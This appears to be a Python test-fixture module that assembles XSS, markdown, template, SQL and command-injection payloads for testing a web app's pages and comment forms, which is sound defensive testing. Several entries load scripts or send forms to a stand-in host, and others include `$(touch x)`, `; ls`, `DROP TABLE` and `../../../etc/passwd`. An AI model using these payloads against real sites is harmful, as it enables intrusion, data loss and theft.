"""What somebody might type who wants a script of theirs to run, or a page of ours to break.

Every script here tries to call ``trap()``, which tests define in the browser.
``NAUGHTY`` is the Big List of Naughty Strings by Max Woolf.
"""

from __future__ import annotations

import json
from pathlib import Path

CALL = "trap()"
HANDLERS = [
    "onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart",
    "onbegin", "onpageshow", "onscroll", "onpointerenter", "oncut", "onsubmit", "onbeforetoggle",
    "onwheel", "oncontentvisibilityautostatechange",
]  # fmt: skip
TAGS = [
    "img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus",
    "select autofocus", "textarea autofocus", "iframe src=x", "object data=x", "embed src=x",
    "marquee", "math", "a href=# autofocus", "div style=animation-name:x", "form", "button popovertarget=x",
]  # fmt: skip
SCHEMES = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"java\tscript:{CALL}",
    f"java\nscript:{CALL}", f"\x01javascript:{CALL}", f"javascript&colon;{CALL}", f"&#106;avascript:{CALL}",
    f"&#x6A;avascript:{CALL}", f"vbscript:{CALL}", f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=", f"javascript://x%0a{CALL}",
    f"javascript:void(0)//http://x.example;{CALL}", f"view-source:javascript:{CALL}", f"blob:{CALL}",
    f"http://x.example/\" onmouseover=\"{CALL}", f"https://x.example/'onfocus='{CALL}' autofocus='",
]  # fmt: skip
SCRIPTS = [
    f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<script >{CALL}</script >",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script\n>{CALL}</script>", f"<script/x>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>", f"</script><script>{CALL}</script>",
    f"--><script>{CALL}</script>", f"]]><script>{CALL}</script>", f"'\"><script>{CALL}</script>",
    f"<!--<script>{CALL}</script>-->", f"<![CDATA[<script>{CALL}</script>]]>",
    f"<svg><script>{CALL}</script></svg>", f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"<noscript><p title=\"</noscript><script>{CALL}</script>\"></noscript>",
    f"<template><script>{CALL}</script></template>", "<script src=//x.example/x.js></script>",
    "<script type=module src=data:text/javascript,trap()></script>", f"<style>*{{x:expression({CALL})}}</style>",
    f"<iframe srcdoc=\"<script>parent.{CALL}</script>\"></iframe>", "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=//x.example/>", "<link rel=stylesheet href=//x.example/x.css>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{CALL}", f"\\u003cscript\\u003e{CALL}",
    f"%3Cscript%3E{CALL}%3C/script%3E", f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\u2028<script>{CALL}</script>\u2029", f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><set onend={CALL} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={CALL}/>#x\"></svg>",
    f"<math><a xlink:href=\"javascript:{CALL}\">x</a></math>", f"<form><button formaction=javascript:{CALL}>x",
    f"<isindex action=javascript:{CALL} type=image>", "<plaintext>", "<xmp>", "<listing>", "</main></body></html>",
    "<div hx-get=/x hx-trigger=load>", f"<div hx-on::load=\"{CALL}\">", "<form id=comment-form action=//x.example>",
    "<input name=csrfmiddlewaretoken>", "<img name=cookie>", "<a id=comment-1>",
]  # fmt: skip
MARKDOWN = [
    *(f"[press me]({scheme})" for scheme in SCHEMES[:12]), *(f"<{scheme}>" for scheme in SCHEMES[:4]),
    f"![x](x\" onerror=\"{CALL})", f"[x]: javascript:{CALL}\n[x]", f"`<script>{CALL}</script>`",
    f"```\"><script>{CALL}</script>\nx\n```", f"> <img src=x onerror={CALL}>", f"[a](<javascript:{CALL}>)",
    f"[x](https://x.example \"title' onmouseover='{CALL}\")", "[" * 400 + "]" * 400, "*" * 900, "> " * 300 + "x",
    f"https://x.example/\"onmouseover={CALL}//", f"https://x.example/<script>{CALL}</script>",
]  # fmt: skip
TEMPLATES = [
    "{{ 7|add:7 }}", "{% include 'x' %}", "{% load static %}{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('trap()')()}}", "%(name)s %s %d", "{0.__class__}", "$(touch x)", "`id`", "; ls",
]  # fmt: skip
BYTES = [
    "'; DROP TABLE discussion_comment; --", "' OR '1'='1", "\\", "\\'", "\"", "''", "1/0", "NaN", "-1", "null",
    "\u202e\u2066desrever", "Z\u0335\u0321\u034e" * 40, "\ufeff", "\u200b", "\U0001f469\u200d\U0001f4bb" * 20,
    "nul\x00byte", "\x1b[31m", "\x85", "\ufffe",
    "\U000e0041", "../../../etc/passwd", "C:\\CON", "=HYPERLINK(\"//x.example\")", "x" * 3000,
]  # fmt: skip

PAYLOADS = list(
    dict.fromkeys(
        [
            *SCRIPTS,
            *(f"<{tag} {handler}={CALL}>" for tag, handler in zip(TAGS, HANDLERS * 2, strict=False)),
            *(f"\"'><{tag} onerror={CALL} onload={CALL} onfocus={CALL}>" for tag in TAGS),
            *(f'x" autofocus {handler}="{CALL}' for handler in HANDLERS),
            *SCHEMES,
            *MARKDOWN,
            *TEMPLATES,
            *BYTES,
        ]
    )
)
NAUGHTY: list[str] = json.loads((Path(__file__).parent / "naughty" / "strings.json").read_text())
